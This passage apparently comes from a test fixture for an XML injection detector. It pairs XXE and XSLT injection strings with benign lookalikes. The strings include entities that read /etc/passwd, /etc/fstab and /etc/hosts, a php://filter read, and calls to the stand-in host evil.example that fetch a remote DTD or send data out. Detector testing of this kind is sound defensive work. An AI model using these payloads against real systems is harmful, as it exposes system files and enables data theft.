      "include the latest user data",
    ],
    [
      '<xi:include href="data.xml" xmlns:xi="http://www.w3.org/2001/XInclude" parse="text"/>',
      "include data.xml, then parse the text",
    ],
    [
      "<xsl:value-of select=\"document('php://filter/resource=index.php')\"/>",
      '<xsl:value-of select="php/index"/>',
    ],
    [
      "<xsl:copy-of select=\"document('https://evil.example/collect')/a\"/>",
      '<xsl:copy-of select="collect/a"/>',
    ],
    [
      "<xsl:value-of select=\"unparsed-text('file:///etc/hosts')\"/>",
      '<xsl:value-of select="hosts/host[1]"/>',
    ],
    [
      '<!DOCTYPE xbel [<!ENTITY e SYSTEM "file:///etc/fstab">]><xbel><title>&e;</title></xbel>',
      '<xbel version="1.0"><title>Bookmarks</title></xbel>',
    ],
    [
      '<!DOCTYPE opml SYSTEM "ftp://evil.example/o.dtd"><opml/>',
      '<opml version="2.0"><head><title>Feeds</title></head></opml>',
    ],
    [
      '<!DOCTYPE xliff [<!ENTITY e PUBLIC "a" "file:///etc/passwd">]><xliff>&e;</xliff>',
      '<!DOCTYPE xliff PUBLIC "-//XLIFF//DTD XLIFF//EN" "http://www.oasis-open.org/committees/xliff/documents/xliff.dtd">',
    ],
  ],
  attacks: [],
  twins: [
    '<?xml version="1.0"?><a>b</a>',
    "an entity of the system",
    'Use <!ENTITY name "value"> in a DTD to declare an entity, then write &name; in the text of your document.',
    "In the DTD chapter we explain <!ELEMENT note (to,from,body)> and what PCDATA stands for.",
    '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://example.com/</loc></url></urlset>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>Blog</title><link href="https://example.com/"/></feed>',
    "<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>",
  ],
};
